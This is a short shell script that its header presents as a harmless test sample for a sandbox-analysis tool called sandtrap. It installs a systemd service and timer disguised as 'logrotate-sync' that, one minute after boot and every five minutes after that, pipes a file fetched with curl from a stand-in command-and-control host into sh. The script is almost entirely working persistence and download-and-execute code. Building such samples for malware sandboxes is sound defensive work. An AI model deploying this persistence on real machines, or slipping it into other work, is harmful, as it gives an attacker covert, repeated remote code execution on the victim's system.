#!/bin/sh
# Persistence through a systemd timer that runs a downloaded payload every five minutes.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
mkdir -p /etc/systemd/system/timers.target.wants
cat > /etc/systemd/system/logrotate-sync.service <<UNIT
[Service]
Type=oneshot
ExecStart=/bin/sh -c 'curl -s http://sync.c2.example/x | sh'
UNIT
cat > /etc/systemd/system/logrotate-sync.timer <<UNIT
[Timer]
OnBootSec=1min
OnUnitActiveSec=5min
[Install]
WantedBy=timers.target
UNIT
ln -sf /etc/systemd/system/logrotate-sync.timer /etc/systemd/system/timers.target.wants/logrotate-sync.timer
systemctl enable logrotate-sync.timer 2>/dev/null
echo timer installed
